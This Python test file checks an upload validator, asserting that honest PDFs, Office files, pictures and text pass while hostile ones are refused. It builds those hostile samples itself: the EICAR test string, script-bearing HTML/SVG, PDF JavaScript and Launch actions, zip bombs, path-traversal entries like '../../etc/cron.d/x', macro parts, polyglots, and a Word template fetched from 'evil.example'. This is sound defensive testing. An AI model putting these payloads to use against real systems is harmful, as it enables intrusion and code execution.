"""Hostile uploads are turned away before anything is stored; honest ones pass. Every file is made here."""

import io
import struct
import zipfile
import zlib

import pytest
from pypdf import PdfWriter
from pypdf.annotations import Link
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.factories.toolkits import office_bytes, pdf_bytes, picture_bytes
from toolkits.errors import FileRefused
from toolkits.file_checks import check_upload

pytestmark = pytest.mark.feature("TK-06")

# Built at run time, so that no scanner takes this file for the thing itself.
EICAR = b"".join((b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$", b"EICAR-STANDARD-", b"ANTIVIRUS-TEST-FILE!$H+H*"))


def refusal(data: bytes, name: str) -> str:
    with pytest.raises(FileRefused) as refused:
        check_upload(io.BytesIO(data), name)
    assert refused.value.field == "file"
    return refused.value.sentence


def png_claiming(width: int, height: int) -> bytes:
    """A PNG whose header claims a size; its data is tiny."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * 64)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def zip_of(entries: dict[str, bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def pdf_with(action: str) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    acting = DictionaryObject({NameObject("/S"): NameObject(action), NameObject("/F"): TextStringObject("x")})
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(acting)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("Visit planner.pdf", pdf_bytes(pages=3), "application/pdf"),
        ("letter.docx", office_bytes("docx"), "wordprocessingml"),
        ("slides.pptx", office_bytes("pptx"), "presentationml"),
        (
            "sheet.xlsx",
            office_bytes("xlsx", {"xl/printerSettings/printerSettings1.bin": b"x"}),
            "spreadsheetml",
        ),
        ("card.png", picture_bytes("PNG"), "image/png"),
        ("card.JPG", picture_bytes("JPEG"), "image/jpeg"),
        ("notes.txt", "Łódź – a plain note.\n".encode(), "text/plain"),
        ("talk.mp3", b"ID3\x04\x00" + b"\x00" * 64, "audio/mpeg"),
        ("film.mp4", b"\x00\x00\x00\x18ftypisom" + b"\x00" * 64, "video/mp4"),
    ],
)
def test_file_passes_when_content_agrees_with_name(name: str, data: bytes, kind: str) -> None:
    checked = check_upload(io.BytesIO(data), name)

    assert kind in checked.kind.content_type
    assert checked.size == len(data)
    assert len(checked.sha256) == 64


def test_pages_are_counted_when_file_is_pdf() -> None:
    assert check_upload(io.BytesIO(pdf_bytes(pages=3)), "a.pdf").pages == 3


def test_name_is_tidied_when_it_tries_tricks() -> None:
    checked = check_upload(io.BytesIO(pdf_bytes()), "C:\\temp\\..\\fdp\u202e<b>planner.PDF")

    assert checked.name == "fdp-b-planner.pdf"


@pytest.mark.parametrize("ending", ["html", "svg", "docm", "xlsm", "zip", "exe", "doc", "pdf.js", ""])
def test_file_refused_when_ending_is_not_taken(ending: str) -> None:
    name = f"tool.{ending}" if ending else "tool"

    sentence = refusal(b"anything", name)

    assert "." in sentence


@pytest.mark.parametrize(
    "data",
    [
        b"<!DOCTYPE html><script>alert(1)</script>",
        b"\xef\xbb\xbf  <svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        b"<?xml version='1.0'?><svg/>",
    ],
)
@pytest.mark.parametrize("name", ["a.pdf", "a.png", "a.docx", "a.txt"])
def test_markup_refused_when_it_is_called_something_else(data: bytes, name: str) -> None:
    assert "web page" in refusal(data, name)


def test_text_refused_when_script_hides_in_it() -> None:
    assert "web page" in refusal(b"A note.\n" * 900 + b"<script src=x></script>", "a.txt")


def test_text_refused_when_it_is_not_text() -> None:
    assert "plain text" in refusal(b"abc\x00\x01def", "a.txt")
    assert "UTF-8" in refusal("café".encode("latin-1"), "a.txt")


@pytest.mark.parametrize(
    ("name", "data"), [("a.pdf", picture_bytes()), ("a.png", pdf_bytes()), ("a.jpg", b"GIF89a..")]
)
def test_file_refused_when_content_is_another_kind(name: str, data: bytes) -> None:
    assert "is not" in refusal(data, name)


@pytest.mark.parametrize("name", ["a.txt", "a.pdf", "a.docx"])
def test_file_refused_when_it_is_the_virus_test(name: str) -> None:
    wrapped = {
        "a.txt": EICAR,
        "a.pdf": pdf_bytes() + b" " * 65_500 + EICAR,
        "a.docx": office_bytes("docx", {"word/media/x.txt": b" " * 65_500 + EICAR}),
    }

    assert "virus" in refusal(wrapped[name], name)


def test_file_refused_when_empty() -> None:
    assert "empty" in refusal(b"", "a.txt")


def test_file_refused_when_too_large() -> None:
    assert "larger than 25 MB" in refusal(b"a" * 25_000_001, "a.txt")


@pytest.mark.parametrize("action", ["/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/GoToE"])
def test_pdf_refused_when_it_acts(action: str) -> None:
    assert "script" in refusal(pdf_with(action), "a.pdf")


def test_pdf_refused_when_script_is_spelt_with_escapes() -> None:
    hidden = pdf_with("/JavaScript").replace(b"/JavaScript", b"/J#61vaScrip#74")

    assert "script" in refusal(hidden, "a.pdf")


def test_pdf_refused_when_it_carries_a_file() -> None:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_attachment("x.txt", b"hello")
    out = io.BytesIO()
    writer.write(out)

    assert "another file" in refusal(out.getvalue(), "a.pdf")


def test_pdf_refused_when_it_has_a_password() -> None:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.encrypt("secret", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)

    assert "password" in refusal(out.getvalue(), "a.pdf")


def test_pdf_passes_when_it_only_links() -> None:
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=200)
    writer.add_annotation(0, Link(rect=(0, 0, 50, 50), url="https://www.gov.uk/"))
    out = io.BytesIO()
    writer.write(out)

    assert check_upload(io.BytesIO(out.getvalue()), "a.pdf").pages == 1


@pytest.mark.parametrize("data", [b"%PDF-1.7\nrubbish\n%%EOF", pdf_bytes()[:200], b"%PDF-1.7\n%%EOF"])
def test_pdf_refused_when_damaged(data: bytes) -> None:
    assert refusal(data, "a.pdf")


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", pdf_bytes() + zip_of({"evil.txt": b"x"})),
        ("a.png", picture_bytes() + zip_of({"evil.txt": b"x"})),
        ("a.png", picture_bytes() + b"<script>alert(1)</script>"),
        ("a.jpg", picture_bytes("JPEG") + pdf_bytes()),
        ("a.docx", b"PK\x03\x04%PDF-1.7\n" + office_bytes("docx")),
        ("a.docx", b"PK\x03\x04" + b"\x00" * 2000 + office_bytes("docx")),
        ("a.mp4", b"\x00\x00\x00\x18ftypisom%PDF-1.4" + b"\x00" * 64),
    ],
)
def test_file_refused_when_it_is_two_things_at_once(name: str, data: bytes) -> None:
    assert refusal(data, name)


def test_archive_refused_when_it_is_a_bomb() -> None:
    bomb = office_bytes("docx", {f"word/media/{number}.xml": b"\x00" * 50_000_000 for number in range(5)})

    assert len(bomb) < 1_000_000
    assert "Unpacked" in refusal(bomb, "a.docx")


def test_archive_refused_when_it_lies_about_its_size() -> None:
    honest = office_bytes("docx", {"word/big.xml": b"\x00" * 210_000_000})
    size = struct.pack("<I", 210_000_000)
    liar = honest.replace(size, struct.pack("<I", 1000))

    assert refusal(liar, "a.docx")


def test_archive_refused_when_it_has_too_many_entries() -> None:
    assert "Unpacked" in refusal(office_bytes("docx", {f"w/{n}": b"" for n in range(2100)}), "a.docx")


@pytest.mark.parametrize(
    "name", ["../../etc/cron.d/x", "/etc/passwd", "word\\..\\..\\x.xml", "C:/x.xml", "a/../../x"]
)
def test_archive_refused_when_it_slips_out(name: str) -> None:
    assert "outside itself" in refusal(office_bytes("docx", {name: b"x"}), "a.docx")


@pytest.mark.parametrize(
    "name",
    [
        "word/vbaProject.bin",
        "xl/macrosheets/sheet1.xml",
        "word/activeX/activeX1.xml",
        "word/embeddings/x.exe",
    ],
)
def test_archive_refused_when_it_holds_code(name: str) -> None:
    assert "macros" in refusal(office_bytes("docx", {name: b"x"}), "a.docx")


def test_document_refused_when_macro_type_is_renamed() -> None:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"

    assert "macros" in refusal(office_bytes("docx", main=macro), "a.docx")


def test_document_refused_when_it_fetches_a_template() -> None:
    rels = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
    )

    assert "fetches" in refusal(office_bytes("docx", {"word/_rels/settings.xml.rels": rels}), "a.docx")


def test_document_refused_when_its_xml_defines_entities() -> None:
    types = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "b">]><Types>&a;</Types>'

    assert refusal(zip_of({"[Content_Types].xml": types}), "a.docx")


def test_workbook_refused_when_called_a_document() -> None:
    assert "is not Word" in refusal(office_bytes("xlsx"), "a.docx")


def test_plain_archive_refused_when_called_a_document() -> None:
    assert "is not Word" in refusal(zip_of({"readme.txt": b"x"}), "a.docx")


@pytest.mark.parametrize("size", [(40_000, 40_000), (40_000, 10), (9_000, 9_000)])
def test_picture_refused_when_it_is_a_flood_of_pixels(size: tuple[int, int]) -> None:
    assert "pixels" in refusal(png_claiming(*size), "a.png")


def test_picture_refused_when_damaged() -> None:
    assert refusal(picture_bytes()[:40], "a.png")
